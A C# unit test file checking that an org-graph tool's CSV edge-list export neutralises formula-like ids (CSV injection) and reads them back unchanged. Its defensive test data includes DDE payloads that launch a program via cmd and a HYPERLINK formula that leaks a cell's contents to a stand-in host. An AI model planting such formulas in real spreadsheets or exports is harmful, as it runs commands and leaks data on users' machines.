using CsvHelper;
using OrgSim.Core.Graph;
using OrgSim.Experiments.Export;
using OrgSim.Experiments.Import;

namespace OrgSim.Experiments.Tests.Export;

/// <summary>
/// <c>orgsim graph --format edges</c> with employee ids a spreadsheet would run as formulas (CSV
/// injection, OWASP): each such cell is written as text, quoted, behind a single quote, and the
/// edge-list import reads the export back to the same ids.
/// </summary>
public class EdgeListCsvTests
{
    /// <summary>Ids that start with each character OWASP names: = + - @ tab and carriage return.</summary>
    private static readonly string[] Formulas =
    [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "-x",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+2",
        "\r=1+2",
    ];

    public static TheoryData<string> FormulaIds => [.. Formulas];

    [Theory]
    [MemberData(nameof(FormulaIds))]
    public void Write_PutsAQuoteBeforeAnIdThatStartsLikeAFormula_AndQuotesTheField(string id)
    {
        string csv = Export(Star("boss", id, "ana"));
        List<string[]> rows = Rows(csv);

        Assert.Contains(rows, r => r[0] == "'" + id && r[1] == "boss");
        Assert.DoesNotContain(rows.SelectMany(r => r), cell => cell == id);
        Assert.Contains("\"'" + id.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"", csv, StringComparison.Ordinal);
        AssertNoCellStartsLikeAFormula(rows);
    }

    [Fact]
    public void Write_LeavesNumbersTypesAndWeightsAsTheyAre_AndQuotesOnlyTheFormulas()
    {
        // Ids that are numbers (negative ones too) cannot run anything; they stay numbers. An id that
        // already starts with a quote before a trigger gets one more, so that the import can drop one.
        OrgGraph graph = Star("-5", "=x", "+3", "-0.5", "1e-3", "'=y", "'abc", "ana");
        string csv = Export(graph);
        List<string[]> rows = Rows(csv);

        Assert.Equal(
            [
                ["'=x", "-5", "manager", "1"],
                ["+3", "-5", "manager", "1"],
                ["-0.5", "-5", "manager", "1"],
                ["1e-3", "-5", "manager", "1"],
                ["''=y", "-5", "manager", "0.5"],
                ["'abc", "-5", "manager", "1"],
                ["ana", "-5", "manager", "1"],
            ],
            rows);
        Assert.Contains("\n+3,-5,manager,1\n", csv, StringComparison.Ordinal);
        Assert.Contains("\n-0.5,-5,manager,1\n", csv, StringComparison.Ordinal);
        Assert.Contains("\n\"''=y\",-5,manager,0.5\n", csv, StringComparison.Ordinal);
        Assert.Contains("\n'abc,-5,manager,1\n", csv, StringComparison.Ordinal);
    }

    [Fact]
    public void ExportThenImport_GivesBackEveryHostileIdExactly()
    {
        string[] ids = ["boss", .. Formulas, "'=quoted", "''-twice", "'-5", "-5", "+7", "'plain", "ana"];
        OrgGraph original = Star(ids);
        string csv = Export(original);
        AssertNoCellStartsLikeAFormula(Rows(csv));

        OrgGraph imported = EdgeListImporter.Import(new StringReader(csv), "edges.csv").Graph;

        Assert.Equal(ids.Order(StringComparer.Ordinal), Enumerable.Range(0, imported.NodeCount).Select(imported.Name).Order(StringComparer.Ordinal));
        Assert.Equal(Ties(original), Ties(imported));
        Assert.Equal(csv, Export(imported));
    }

    /// <summary>A star: every agent after the first reports to the first; the sixth tie has weight 0.5.</summary>
    private static OrgGraph Star(params string[] names)
    {
        var builder = new OrgGraphBuilder(names.Length);
        for (int v = 0; v < names.Length; v++)
        {
            builder.SetNode(v, v == 0 ? -1 : 0, 0, v == 0 ? 0 : 1, v == 0 ? Role.Manager : Role.FrontLine);
            builder.SetName(v, names[v]);
            if (v > 0)
            {
                builder.AddTie(v, 0, EdgeType.Manager, v == 5 ? 0.5f : 1f);
            }
        }

        return builder.Build();
    }

    private static string Export(OrgGraph graph)
    {
        using var writer = new StringWriter();
        EdgeListCsv.Write(writer, graph);
        return writer.ToString();
    }

    /// <summary>The data rows as a spreadsheet or pandas reads them (RFC 4180, nothing trimmed).</summary>
    internal static List<string[]> Rows(string csv)
    {
        using var reader = CsvReader.Create(new StringReader(csv), new CsvReaderOptions { Separator = ',', DetectSeparatorHint = false }, leaveOpen: false);
        reader.ReadHeader();
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(i => reader.GetString(i))]);
        }

        return rows;
    }

    /// <summary>No cell starts with = + - @ tab or CR unless it is a plain decimal number.</summary>
    internal static void AssertNoCellStartsLikeAFormula(IEnumerable<string[]> rows)
    {
        foreach (string cell in rows.SelectMany(r => r))
        {
            bool trigger = cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r';
            Assert.False(trigger && !double.TryParse(cell, System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _), $"cell {cell} would be a formula in a spreadsheet");
        }
    }

    private static HashSet<(string, string, EdgeType, float)> Ties(OrgGraph g) =>
    [
        .. Enumerable.Range(0, g.NodeCount).SelectMany(v => Enumerable.Range(0, g.Degree(v))
            .Select(i => (g.Name(v), g.Name(g.Neighbours(v)[i]), g.EdgeTypesOf(v)[i], g.EdgeWeightsOf(v)[i]))),
    ];
}
